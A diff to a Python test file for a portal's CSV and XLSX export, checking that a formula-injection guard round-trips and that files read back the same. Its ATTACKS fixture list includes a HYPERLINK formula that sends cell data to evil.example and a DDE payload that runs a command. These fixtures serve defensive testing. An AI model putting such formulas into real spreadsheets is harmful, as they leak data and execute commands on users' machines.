@@ -1,17 +1,22 @@
 """Writing of table files: they read back the same, and nothing in them runs."""
 
-import csv
-import io
-
-import pytest
+from etapalvelu.portal.core.tables.csvfile import guard
+from etapalvelu.portal.core.tables.csvfile import unguard
+from etapalvelu.portal.core.tables.csvfile import write_csv
+from etapalvelu.portal.core.tables.read import read_table
+from etapalvelu.portal.core.tables.xlsx import write_xlsx
+from hypothesis import HealthCheck
 from hypothesis import given
+from hypothesis import settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from etapalvelu.portal.core.tables.csvfile import guard, unguard, write_csv
-from etapalvelu.portal.core.tables.read import read_table
-from etapalvelu.portal.core.tables.xlsx import write_xlsx
+import csv
+import io
+import pytest
 
+# Machines that build and test at once are slow, which says nothing of the code.
+PATIENT = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
 ATTACKS = [
     '=HYPERLINK("https://evil.example?"&A1;"klikkaa")',
     "=cmd|' /C calc'!A0",
@@ -27,6 +32,7 @@ ATTACKS = [
 ]
 
 
+@PATIENT
 @given(st.text() | st.text("'=+-@\t\r\nx"))
 def test_unguard_undoes_guard(cell):
     assert unguard(guard(cell)) == cell
@@ -58,6 +64,7 @@ printable = st.text(
 ).map(str.strip)
 
 
+@PATIENT
 @given(st.lists(st.tuples(printable, printable).filter(any), max_size=5))
 def test_both_formats_read_back_the_same(rows):
     columns = ["nimi", "osoite"]
